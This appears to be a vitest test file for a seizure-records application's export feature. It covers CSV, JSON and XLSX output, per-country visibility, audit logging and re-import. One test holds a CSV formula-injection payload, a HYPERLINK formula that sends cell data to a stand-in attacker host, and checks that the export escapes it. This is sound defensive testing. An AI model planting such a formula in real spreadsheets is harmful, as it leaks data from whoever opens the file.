import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../platform/testing/test-app.ts';
import { EXPORT_EXTRA_COLUMNS, FIELD_NAMES } from './import-fields.ts';
import { commit, download, uploadAndValidate, XLSX_MIME } from './import-test-helpers.ts';
import { sampleHeader, sampleLine } from './import-sample.ts';
import { cocaineSeizure, signIn } from './test-helpers.ts';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
  await t.gazetteer;
});
afterAll(() => t?.close());

describe('seizure export', () => {
  it('exports what the search shows, in the import layout, and the export imports again', async () => {
    const fr = await signIn(t, ['ncp'], { country: 'FR' });
    const ke = await signIn(t, ['ncp'], { country: 'KE' });
    // Six records for France (rows 0-5 of the sample: FR, NL, KE, DE, ES and BR profiles), one Kenyan draft France must not see.
    let file = sampleHeader();
    for (let i = 0; i < 6; i++) file += sampleLine(i);
    const imp = await uploadAndValidate(fr.client, 'six.csv', file);
    expect(imp.validated).toMatchObject({ validRows: 6, errorRows: 0 });
    await commit(fr.client, imp.upload.id, { mode: 'all' });
    const hidden = await ke.client.post('/api/v1/seizures', cocaineSeizure({ country: 'KE', placeLocode: 'KEMBA', route: [], externalRef: 'KE-HIDDEN' }));
    expect(hidden.status).toBe(201);

    const csv = await download(fr.client, '/api/v1/seizures/export?format=csv');
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="seizures-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows: string[][] = parse(csv.data, { bom: true });
    expect(rows[0]).toEqual([...FIELD_NAMES, ...EXPORT_EXTRA_COLUMNS]);
    expect(rows).toHaveLength(7);
    const refs = rows.slice(1).map((r) => r[0]);
    expect(refs.sort()).toEqual(['S-00000000', 'S-00000001', 'S-00000002', 'S-00000003', 'S-00000004', 'S-00000005']);
    const first = Object.fromEntries(rows[0].map((h, i) => [h, rows.find((r) => r[0] === 'S-00000000')![i]]));
    expect(first).toMatchObject({
      seized_at: '2015-01-01T00:00:00Z',
      country: 'FR',
      place_locode: 'FRLEH',
      detection_methods: 'RISK_PROFILING|CANINE',
      departure_country: 'EC',
      departure_place: 'ECGYE',
      destination_country: 'FR',
      commodity_1_subcategory: 'DRUGS.COCAINE',
      commodity_1_quantity: '1',
      commodity_2_category: 'CASH',
      offenders: 'EC:male:26_35:1',
      status: 'draft',
      provenance: 'imported',
    });

    // The filters of the list apply.
    const drugs = parse((await download(fr.client, '/api/v1/seizures/export?format=csv&category=DRUGS&country=FR,NL')).data, { bom: true }) as string[][];
    expect(drugs.slice(1).map((r) => r[0]).sort()).toEqual(['S-00000000', 'S-00000001']);
    expect((await fr.client.get('/api/v1/seizures/export?format=pdf')).status).toBe(400);

    const json = await download(fr.client, '/api/v1/seizures/export?format=json&sort=seizedAt');
    const records = JSON.parse(json.data.toString('utf8'));
    expect(records).toHaveLength(6);
    expect(records.map((r: { externalRef: string }) => r.externalRef)).not.toContain('KE-HIDDEN');
    expect(records[0]).toMatchObject({ reference: expect.stringMatching(/^[A-Z]{2}-2015-\d{7}$/), commodities: expect.any(Array), route: expect.any(Array) });

    const xlsx = await download(fr.client, '/api/v1/seizures/export?format=xlsx');
    expect(xlsx.headers.get('content-type')).toBe(XLSX_MIME);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.data as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    expect(ws.rowCount).toBe(7);
    expect(ws.getRow(1).getCell(1).value).toBe('external_ref');

    // Each export is in the audit log with its filters and row count.
    const audit = await t.ctx.database.rows<{ detail: unknown }>(sql`SELECT detail FROM audit_log WHERE action = 'seizure.export' AND actor_user_id = ${fr.user.id} ORDER BY id`);
    const details = audit.map((a) => (typeof a.detail === 'string' ? JSON.parse(a.detail) : a.detail));
    expect(details.map((d: { format: string; rows: number }) => [d.format, d.rows])).toEqual([
      ['csv', 6],
      ['csv', 2],
      ['json', 6],
      ['xlsx', 6],
    ]);
    expect(details[1].filters).toMatchObject({ category: ['DRUGS'], country: ['FR', 'NL'] });

    // The CSV and the XLSX export import again: as new records in another administration, as nothing new in France.
    const back = await uploadAndValidate(ke.client, 'export.csv', csv.data);
    expect(back.validated).toMatchObject({ validRows: 6, errorRows: 0, alreadyStored: 0 });
    const again = await uploadAndValidate(fr.client, 'export.xlsx', xlsx.data, XLSX_MIME);
    expect(again.validated).toMatchObject({ validRows: 6, errorRows: 0, alreadyStored: 6 });
  });

  it('writes a description that starts like a formula as text, and the export imports back to the same text', async () => {
    const be = await signIn(t, ['ncp'], { country: 'BE' });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const body = cocaineSeizure({ country: 'BE', placeLocode: 'BEANR', route: [], externalRef: 'BE-FORMULA', lng: -3.5, lat: 51.2 });
    body.commodities[0] = { ...body.commodities[0], description: formula };
    const created = await be.client.post('/api/v1/seizures', { ...body, acceptNominalWarnings: true });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const csv = await download(be.client, '/api/v1/seizures/export?format=csv');
    const rows: string[][] = parse(csv.data, { bom: true });
    const row = Object.fromEntries(rows[0].map((h, i) => [h, rows[1][i]]));
    expect(row.commodity_1_description).toBe(`'${formula}`);
    expect(row.lng).toBe('-3.5');
    expect(csv.data.toString('utf8')).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const back = await uploadAndValidate(be.client, 'export.csv', csv.data);
    expect(back.validated).toMatchObject({ validRows: 1, alreadyStored: 1 });
  });

  it('gives the template as XLSX with a sheet describing the fields, and its rows validate', async () => {
    const fr = await signIn(t, ['ncp'], { country: 'FR' });
    const tpl = await download(fr.client, '/api/v1/seizures/import-template?format=xlsx');
    expect(tpl.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(tpl.data as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Seizures', 'Fields']);
    const { validated } = await uploadAndValidate(fr.client, 'template.xlsx', tpl.data, XLSX_MIME);
    expect(validated).toMatchObject({ format: 'xlsx', validRows: 2, errorRows: 0 });
  });

  it('reads an XLSX whose parts come in an order the streaming reader cannot follow (shared strings first, workbook part last)', async () => {
    const fr = await signIn(t, ['ncp'], { country: 'FR' });
    const tpl = await download(fr.client, '/api/v1/seizures/import-template?format=xlsx');
    const source = await JSZip.loadAsync(tpl.data as unknown as Buffer);
    const names = Object.keys(source.files).filter((n) => !source.files[n].dir);
    const sheets = names.filter((n) => n.startsWith('xl/worksheets/'));
    const order = [...names.filter((n) => !sheets.includes(n) && n !== 'xl/workbook.xml'), ...sheets, 'xl/workbook.xml'];
    expect(order.indexOf('xl/sharedStrings.xml')).toBeLessThan(order.indexOf(sheets[0]));
    const reordered = new JSZip();
    for (const n of order) reordered.file(n, await source.file(n)!.async('nodebuffer'));
    const file = await reordered.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    const { validated } = await uploadAndValidate(fr.client, 'reordered.xlsx', file, XLSX_MIME);
    expect(validated).toMatchObject({ format: 'xlsx', validRows: 2, errorRows: 0 });
  });
});
